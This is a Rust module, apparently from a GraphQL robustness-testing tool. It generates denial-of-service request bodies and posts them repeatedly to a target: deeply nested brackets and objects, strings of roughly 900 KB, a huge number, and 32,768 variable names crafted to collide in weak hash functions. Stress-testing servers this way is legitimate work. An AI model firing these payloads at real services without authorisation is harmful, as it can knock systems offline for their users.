//! Variables that are large, deep, or have very many names.

use serde_json::{Map, Value};

use crate::Aim;
use crate::attack::{Attack, Class};

/// The attack.
pub(super) const ATTACK: Attack = Attack::new(
    Class::Query,
    "variables",
    "900 KB of brackets, of one string, of names that collide in weak hash functions",
    |aim| Box::pin(run(aim)),
);

const QUERY: &str =
    "query ($text: String) { works(filter: { text: $text }, first: 1) { totalCount } }";

async fn run(aim: Aim) {
    // Built once: they are long.
    let bodies: Vec<String> = [
        format!(
            "{{\"text\":{}{}}}",
            "[".repeat(450_000),
            "]".repeat(450_000)
        ),
        format!(
            "{{\"text\":{}1{}}}",
            "{\"a\":".repeat(120_000),
            "}".repeat(120_000)
        ),
        format!("{{\"text\":\"{}\"}}", "x".repeat(900_000)),
        format!("{{\"text\":\"{}\"}}", "\\u0000".repeat(150_000)),
        names(),
        format!("{{\"text\":[{}0]}}", "0,".repeat(450_000)),
        format!("{{\"text\":{}}}", "9".repeat(900_000)),
    ]
    .into_iter()
    .map(|variables| {
        let query = Value::from(QUERY);
        format!("{{\"query\":{query},\"variables\":{variables}}}")
    })
    .collect();
    aim.posts(move |number, round| bodies[(number + round) as usize % bodies.len()].clone())
        .await;
}

/// Names that collide in weak hash functions, for which `Aa` and `BB` have the same hash.
fn names() -> String {
    let mut variables = Map::new();
    for at in 0..32_768_u32 {
        let name: String = (0..15)
            .map(|bit| if at >> bit & 1 == 0 { "Aa" } else { "BB" })
            .collect();
        variables.insert(name, Value::Null);
    }
    Value::Object(variables).to_string()
}
